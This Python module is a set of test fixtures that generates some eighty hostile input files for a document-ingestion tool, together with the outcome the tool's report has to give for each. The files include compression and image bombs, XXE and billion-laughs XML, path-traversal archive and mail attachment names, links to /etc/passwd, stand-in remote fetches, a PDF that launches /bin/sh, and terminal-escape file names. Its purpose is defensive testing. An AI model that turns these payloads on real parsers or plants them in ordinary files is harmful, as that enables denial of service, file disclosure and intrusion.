"""Sixty-odd files that want to hurt whoever reads them, each with what the report must say of it."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import os
import random
import socket
import struct
import tarfile
import threading
import time
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager, suppress
from dataclasses import dataclass
from pathlib import Path

from parser_samples import PAGE, WORDS, docx, epub, office, open_document, package, pdf, png, pptx, xlsx
from pdf_samples import assemble

MEGABYTE = 1 << 20
LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a0 "ha">'
    + "".join(f'<!ENTITY a{n} "' + f"&a{n - 1};" * 10 + '">' for n in range(1, 12))
    + "]>"
)
OUTSIDE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
FETCHED = '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://192.0.2.1/x.dtd">%a;]>'
NOISE = random.Random(5).randbytes(10_000)
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


@dataclass(frozen=True, slots=True)
class Hostile:
    """How a file is put on the disk, and the outcome and words that the report must have for it."""

    make: bytes | Callable[[Path], object]
    outcome: str
    reason: str = ""  # a regular expression; of a file that is read it is looked for in the warnings


def zipped(files: Mapping[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def stored(files: Mapping[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in files.items():
            archive.writestr(zipfile.ZipInfo(name), data)
    return out.getvalue()


def tarred(*entries: tuple[tarfile.TarInfo, bytes]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for entry, data in entries:
            entry.size = len(data)
            archive.addfile(entry, io.BytesIO(data))
    return out.getvalue()


def link(name: str, target: str, kind: bytes = tarfile.SYMTYPE) -> tuple[tarfile.TarInfo, bytes]:
    entry = tarfile.TarInfo(name)
    entry.type, entry.linkname = kind, target
    return entry, b""


def nested(depth: int) -> bytes:
    data = zipped({"inside.txt": WORDS.encode()})
    for level in range(depth):
        data = zipped({f"level{level}.zip": data})
    return data


def lying() -> bytes:
    """A zip whose directory claims four gigabytes for a member of some bytes."""
    data = bytearray(zipped({"a.txt": b"x" * 50}))
    entry = data.index(b"PK\x01\x02")
    data[entry + 24 : entry + 28] = struct.pack("<I", 0xFFFFFFF0)
    return bytes(data)


def overlapping() -> bytes:
    """A directory that names the same data again and again (D. Fifield, "A better zip bomb", 2019)."""
    data = zipped({"a.txt": b"0" * 4 * MEGABYTE})
    start, end = data.index(b"PK\x01\x02"), data.index(b"PK\x05\x06")
    entry, count = data[start:end], 400
    directory = b"".join(entry.replace(b"a.txt", f"{n:05}".encode()) for n in range(count))
    tail = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(directory), start, 0)
    return data[:start] + directory + tail


def encrypted_zip() -> bytes:
    data = bytearray(zipped({"a.txt": WORDS.encode() * 3}))
    data[6] |= 1
    data[data.index(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


def word(body: str, head: str = "", more: dict[str, str] | None = None) -> bytes:
    text = f'{head}<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>'
    return office("word/document.xml", "wordprocessingml.document", text, more)


def paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def with_links(main: bytes, part: str, kind: str, target: str) -> bytes:
    """An Office file with a link that leads to another machine."""
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    links = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rX" '
        f'Type="{base}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    )
    out = io.BytesIO(main)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(part, links)
    return out.getvalue()


def with_part(main: bytes, part: str, change: Callable[[str], str]) -> bytes:
    """The same package with one part rewritten."""
    with zipfile.ZipFile(io.BytesIO(main)) as archive:
        parts = {name: archive.read(name).decode() for name in archive.namelist()}
    return package({**parts, part: change(parts[part])})


def book(content: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(epub())) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    return zipped({**parts, "c.xhtml": content})


def portable(*objects: bytes, root: int = 1) -> bytes:
    """A PDF of these objects, numbered from 1."""
    return assemble(objects, root)


def page(content: bytes, *, catalog: str = "", box: str = "0 0 595 842", packed: bool = False, more: str = "") -> bytes:
    data = zlib.compress(content, 9) if packed else content
    kind = "/Filter /FlateDecode " if packed else ""
    return portable(
        f"<< /Type /Catalog /Pages 2 0 R {catalog} >>".encode(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        f"<< /Type /Page /Parent 2 0 R /MediaBox [{box}] /Contents 4 0 R "
        f"/Resources << /Font << /F1 5 0 R >> {more} >> >>".encode(),
        f"<< {kind}/Length {len(data)} >>\nstream\n".encode() + data + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    )


def locked_pdf() -> bytes:
    import pypdf

    writer = pypdf.PdfWriter(clone_from=pypdf.PdfReader(io.BytesIO(pdf())))
    writer.encrypt("secret", algorithm="AES-256")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def locked_docx() -> bytes:
    from msoffcrypto.format.ooxml import OOXMLFile

    out = io.BytesIO()
    OOXMLFile(io.BytesIO(docx())).encrypt("secret", out)
    return out.getvalue()


def picture_bomb() -> bytes:
    """A PNG of 30,000 × 30,000 pixels in some kilobytes."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    header = struct.pack(">IIBBBBB", 30_000, 30_000, 1, 0, 0, 0, 0)
    squeeze = zlib.compressobj(9)
    rows = b"".join(squeeze.compress(b"\0" * 3_751 * 100) for _ in range(300)) + squeeze.flush()
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def mail(headers: str, body: str) -> bytes:
    return f"From: a@example.com\nSubject: Leave\nMIME-Version: 1.0\n{headers}\n\n{body}".encode()


def attached(*names: str) -> bytes:
    parts = "".join(
        f'--b\nContent-Type: text/plain\nContent-Disposition: attachment; filename="{name}"\n\n{WORDS}\n'
        for name in names
    )
    return mail(
        'Content-Type: multipart/mixed; boundary="b"', f"--b\nContent-Type: text/plain\n\n{WORDS}\n{parts}--b--\n"
    )


def sheet_of_claims() -> bytes:
    """Two cells at the far corners of a sheet: a table of 17,000,000,000 cells for who lays it out."""
    far = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
    return with_part(xlsx(), "xl/worksheets/sheet1.xml", lambda text: text.replace("</sheetData>", far))


def repeated_cells() -> bytes:
    cell = (
        '<table:table-cell table:number-columns-repeated="1000000000" office:value-type="string"><text:p>x</text:p>'
        "</table:table-cell>"
    )
    row = f'<table:table-row table:number-rows-repeated="1000000000">{cell}</table:table-row>'
    return open_document(
        "spreadsheet", f'<office:spreadsheet><table:table table:name="s">{row}</table:table></office:spreadsheet>'
    )


def looping_ole() -> bytes:
    """An OLE file whose allocation table leads in a circle."""
    head = bytearray(512)
    head[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", head, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIIII", head, 44, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0, 0)
    struct.pack_into("<I", head, 76, 0)
    table = struct.pack("<I", 0xFFFFFFFD) + struct.pack("<I", 1) + b"\xff" * 504
    return bytes(head) + table + bytes(512)


def sparse(path: Path) -> None:
    with path.open("wb") as file:
        file.truncate(600 * MEGABYTE)


def pipe(path: Path) -> None:
    os.mkfifo(path)


def listening(path: Path) -> None:
    """A socket; its name is made short first, because sockets have short names."""
    here = Path.cwd()
    os.chdir(path.parent)
    try:
        with socket.socket(socket.AF_UNIX) as server:
            server.bind(path.name)
    finally:
        os.chdir(here)


def device(path: Path) -> None:
    os.mknod(path, 0o20600, os.makedev(1, 5))  # the device of endless zeros


def make_link(target: str) -> Callable[[Path], object]:
    return lambda path: path.symlink_to(target)


TOO_MUCH = "would unpack to more than"
ENTITIES = "entit"
HOSTILE: dict[str, Hostile] = {
    # archives
    "bomb.zip": Hostile(zipped({"zeros.txt": b"0" * 64 * MEGABYTE}), "failed", TOO_MUCH),
    "bomb.gz": Hostile(gzip.compress(b"0" * 64 * MEGABYTE), "failed", TOO_MUCH),
    "bomb.tar.bz2": Hostile(bz2.compress(b"0" * 64 * MEGABYTE), "failed", TOO_MUCH),
    "bomb.tar.xz": Hostile(lzma.compress(b"0" * 64 * MEGABYTE, preset=0), "failed", TOO_MUCH),
    "nested.zip": Hostile(nested(8), "added"),
    "many.zip": Hostile(zipped({f"{n}.txt": b"x" for n in range(2_500)}), "failed", "more than 2000 files"),
    "lying.zip": Hostile(lying(), "added"),
    "overlapping.zip": Hostile(overlapping(), "failed", f"damaged|{TOO_MUCH}"),
    "encrypted.zip": Hostile(encrypted_zip(), "failed", "needs a password"),
    "cut.zip": Hostile(zipped({"a.txt": NOISE[:5_000]})[:2_500], "failed", "damaged|not an archive"),
    "climbing.zip": Hostile(
        zipped({"../../../etc/evil.txt": b"climbed", "/absolute.txt": b"x", "C:\\drive.txt": b"x", "..\\b.txt": b"x"}),
        "added",
    ),
    "links.tar": Hostile(
        tarred(
            link("up", "../../.."),
            link("passwd", "/etc/passwd"),
            link("hard", "/etc/passwd", tarfile.LNKTYPE),
            link("zero", "", tarfile.CHRTYPE),
            link("pipe", "", tarfile.FIFOTYPE),
        ),
        "skipped",
        "no text",
    ),
    "heavy.zip": Hostile(stored({f"{n}.bin": bytes(16 * MEGABYTE) for n in range(7)}), "added"),
    "heavier.zip": Hostile(stored({f"{n}.bin": bytes(16 * MEGABYTE) for n in range(9)}), "failed", TOO_MUCH),
    # XML
    "laughs.xml": Hostile(f"<?xml version='1.0'?>{LAUGHS}<x>&a11;</x>".encode(), "failed", ENTITIES),
    "outside.xml": Hostile(f"<?xml version='1.0'?>{OUTSIDE}<x>&a;</x>".encode(), "failed", ENTITIES),
    "fetched.xml": Hostile(f"<?xml version='1.0'?>{FETCHED}<x>y</x>".encode(), "failed", ENTITIES),
    "utf16.xml": Hostile(
        f"<?xml version='1.0' encoding='utf-16'?>{OUTSIDE}<x>&a;</x>".encode("utf-16"), "failed", ENTITIES
    ),
    "laughs.docx": Hostile(word(paragraph("&a11;"), LAUGHS), "failed", ENTITIES),
    "outside.docx": Hostile(word(paragraph("&a;"), OUTSIDE), "failed", ENTITIES),
    "fetched.docx": Hostile(word(paragraph(WORDS), FETCHED), "failed", ENTITIES),
    "laughs.xlsx": Hostile(
        with_part(xlsx(), "xl/worksheets/sheet1.xml", lambda text: LAUGHS + text.replace(WORDS, "&a11;")),
        "failed",
        ENTITIES,
    ),
    "outside.pptx": Hostile(
        with_part(pptx(), "ppt/slides/slide1.xml", lambda text: OUTSIDE + text.replace(WORDS, "&a;")),
        "failed",
        ENTITIES,
    ),
    "laughs.odt": Hostile(
        with_part(
            open_document("text", "<office:text><text:p>WORDS</text:p></office:text>"),
            "content.xml",
            lambda text: LAUGHS + text.replace("WORDS", "&a11;"),
        ),
        "failed",
        ENTITIES,
    ),
    "outside.epub": Hostile(
        book(f"{OUTSIDE}<html xmlns='http://www.w3.org/1999/xhtml'><body><p>&a;</p></body></html>".encode()),
        "failed|skipped|added",
    ),
    "deep.xml": Hostile(b"<a>" * 200_000, "failed|skipped", "nest|deep|depth"),
    "deep.html": Hostile(b"<div>" * 200_000 + b"x", "failed", "too deep"),
    "deep.json": Hostile(b"[" * 200_000, "failed|added"),
    "deep.docx": Hostile(
        word("<w:sdt><w:sdtContent>" * 3_000 + "</w:sdtContent></w:sdt>" * 3_000), "failed", "nest|deep|damaged"
    ),
    "deep.rtf": Hostile(b"{\\rtf1 " + b"{" * 200_000 + b"x", "failed|added|skipped"),
    # what would fetch something
    "template.docx": Hostile(
        with_links(docx(), "word/_rels/settings.xml.rels", "attachedTemplate", "http://192.0.2.1/evil.dotm"), "added"
    ),
    "picture.docx": Hostile(
        with_links(docx(), "word/_rels/document.xml.rels", "image", "http://192.0.2.1/seen.png"), "added"
    ),
    "book.xlsx": Hostile(with_links(xlsx(), "xl/_rels/x.xml.rels", "externalLink", "http://192.0.2.1/x.xlsx"), "added"),
    "pictures.html": Hostile(
        f'<img src="http://192.0.2.1/x.png"><link rel=stylesheet href="http://192.0.2.1/x.css"><iframe src="http://192.0.2.1/">'
        f'</iframe><script>fetch("http://192.0.2.1/")</script><p>{WORDS}</p>'.encode(),
        "added",
    ),
    "picture.md": Hostile(f"# Leave\n\n![x](http://192.0.2.1/x.png) {WORDS}\n".encode(), "added"),
    "body.eml": Hostile(
        mail(
            'Content-Type: multipart/mixed; boundary="b"',
            f'--b\nContent-Type: text/html\n\n<p>{WORDS}</p><img src="http://192.0.2.1/">\n--b\nContent-Type: '
            'message/external-body; access-type=URL; URL="http://192.0.2.1/x"\n\nContent-Type: text/plain\n\n--b--\n',
        ),
        "added",
    ),
    "actions.pdf": Hostile(
        page(
            f"BT /F1 12 Tf 72 700 Td ({WORDS}) Tj ET".encode(),
            catalog="/OpenAction << /S /JavaScript /JS (app.launchURL('http://192.0.2.1/')) >> /AA << /WC "
            "<< /S /Launch /F (/bin/sh) >> >>",
        ),
        "added",
    ),
    # mails
    "climbing.eml": Hostile(
        attached("../../../../etc/cron.d/x.txt", "/etc/x.txt", "..\\..\\x.txt", "CON.txt", "a\tb.txt"), "added"
    ),
    "deep.eml": Hostile(
        b"From: a\nSubject: x\n" + b"Content-Type: message/rfc822\n\n" * 3_000, "failed", "nests its parts too deep"
    ),
    "sealed.eml": Hostile(
        mail('Content-Type: multipart/encrypted; boundary="b"', "--b\n\nx\n--b--\n"), "failed", "encrypted"
    ),
    "headers.eml": Hostile(mail("\n".join(f"X-{n}: {'y' * 50}" for n in range(20_000)), WORDS), "added"),
    "none.eml": Hostile(NOISE[:4_000], "failed", "not a mail|not text"),
    # the file system
    "loop": Hostile(make_link("."), "skipped", "a link"),
    "up": Hostile(make_link("../.."), "skipped", "a link"),
    "passwd.txt": Hostile(make_link("/etc/passwd"), "skipped", "a link"),
    "dangling.txt": Hostile(make_link("nowhere"), "skipped", "a link"),
    "zero.txt": Hostile(make_link("/dev/zero"), "skipped", "a link"),
    "pipe.txt": Hostile(pipe, "skipped", "a pipe"),
    "socket.txt": Hostile(listening, "skipped", "a socket"),
    "device.txt": Hostile(device, "skipped", "a device"),
    "sparse.txt": Hostile(sparse, "failed", "more than 256 MiB"),
    # what it is not
    "zero.pdf": Hostile(b"", "failed", "empty"),
    "zero.docx": Hostile(b"", "failed", "empty"),
    "zero.md": Hostile(b"", "skipped", "no text"),
    "picture.pdf": Hostile(png(), "failed", "not a|damaged|cannot be"),
    "page.docx": Hostile(PAGE.encode(), "failed", "damaged|not a"),
    "sheet.pdf": Hostile(xlsx(), "failed", "not a|damaged|cannot be"),
    "program.txt": Hostile(b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 40, "failed", "not text"),
    "random.xlsx": Hostile(NOISE[:9_000], "failed", "damaged|not a"),
    "random.png": Hostile(NOISE[:9_000], "failed", "not|damaged|cannot|ocr"),
    "program.exe": Hostile(b"MZ" + NOISE[:2_000], "skipped", "no reader for .exe"),
    # cut off, locked
    "cut.pdf": Hostile(pdf()[:300], "failed|skipped", "damaged|cannot be|no text|not a|had no text"),
    "cut.docx": Hostile(docx()[:-200], "failed", "damaged or cut off"),
    "cut.pptx": Hostile(pptx()[:400], "failed", "damaged or cut off"),
    "locked.pdf": Hostile(locked_pdf(), "failed", "password|encrypted"),
    "locked.docx": Hostile(locked_docx(), "failed", "password|encrypted"),
    # huge claims
    "sheet.xlsx": Hostile(sheet_of_claims(), "failed|added", "more than|memory|"),
    "cells.ods": Hostile(repeated_cells(), "failed|added", "more than|memory|"),
    "picture.png": Hostile(picture_bomb(), "failed", "pixels|large|memory|ocr"),
    "spans.html": Hostile(
        f"<table><tr><td colspan=999999999 rowspan=999999999>{WORDS}<td>x</tr><tr><td>y</tr></table>".encode(), "added"
    ),
    "stream.pdf": Hostile(
        page(b"BT /F1 12 Tf (x) Tj ET\n" + b" " * 200 * MEGABYTE, packed=True), "added|failed|skipped"
    ),
    "wall.pdf": Hostile(
        page(f"BT /F1 12 Tf 72 700 Td ({WORDS}) Tj ET".encode(), box="0 0 9e9 9e9"), "added|failed|skipped"
    ),
    "circle.pdf": Hostile(
        portable(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 999999999 >>"),
        "failed|skipped",
        "damaged|cannot be|no text|no page|pages",
    ),
    "circle.xls": Hostile(looping_ole(), "failed", "damaged|not a|cannot be|given up|more memory"),
    "binary.rtf": Hostile(b"{\\rtf1 \\bin999999999 x" + WORDS.encode() + b"}", "added|skipped|failed"),
    "number.json": Hostile(b'{"n": ' + b"9" * 100_000 + b', "rule": "' + WORDS.encode() + b'"}', "added|failed"),
    "aliases.yaml": Hostile(
        ("a0: &a0 [x]\n" + "".join(f"a{n}: &a{n} [{','.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 12))).encode(),
        "added",
    ),
    "line.csv": Hostile(b'"' + b"x," * 100_000, "added|failed"),
    # names
    "\x1b]0;owned\x07\x1b[2J.txt": Hostile(f"{WORDS} Escape.\n".encode(), "added"),
    "invoice\u202efdp.txt": Hostile(f"{WORDS} Turned.\n".encode(), "added"),
    # readers that go wrong (test_hostile.py brings them)
    "a.hangs": Hostile(b"x", "failed", "given up"),
    "a.crashes": Hostile(b"x", "failed", "reader of this format failed"),
    "a.leaves": Hostile(b"x", "failed", "reader of this format failed"),
    "a.hoards": Hostile(b"x", "failed", "more memory than allowed"),
    "a.floods": Hostile(b"x", "failed", "damaged answer|over its limit"),
    "a.shouts": Hostile(b"x", "failed", "damaged answer|over its limit"),
    "a.lies": Hostile(b"x", "failed", "ranges that do not fit"),
    "a.calls": Hostile(b"x", "failed", "OSError"),
}
SHORT = (
    *(
        "bomb.zip",
        "bomb.gz",
        "overlapping.zip",
        "nested.zip",
        "climbing.zip",
        "links.tar",
        "laughs.xml",
        "outside.docx",
    ),
    *("laughs.xlsx", "deep.html", "template.docx", "pictures.html", "climbing.eml", "deep.eml", "loop", "pipe.txt"),
    *("device.txt", "sparse.txt", "zero.pdf", "program.txt", "cut.docx", "locked.pdf", "sheet.xlsx", "picture.png"),
    *("\x1b]0;owned\x07\x1b[2J.txt", "a.hangs", "a.crashes", "a.leaves", "a.hoards", "a.floods"),
)


def write_hostile(folder: Path, names: tuple[str, ...]) -> None:
    """Put those of HOSTILE on the disk."""
    folder.mkdir(parents=True)
    for name in names:
        make = HOSTILE[name].make
        if callable(make):
            make(folder / name)
        else:
            (folder / name).write_bytes(make)


@contextmanager
def changing(path: Path) -> Iterator[None]:
    """A file that grows all the time, large enough that no reading of it falls between two changes."""
    with path.open("wb") as file:
        file.truncate(64 * MEGABYTE)
    done = threading.Event()

    def change() -> None:
        number = 0
        while not done.is_set():
            number += 1
            with suppress(OSError):
                os.utime(path, ns=(number, number))
            time.sleep(0.0005)

    thread = threading.Thread(target=change)
    thread.start()
    try:
        yield
    finally:
        done.set()
        thread.join()
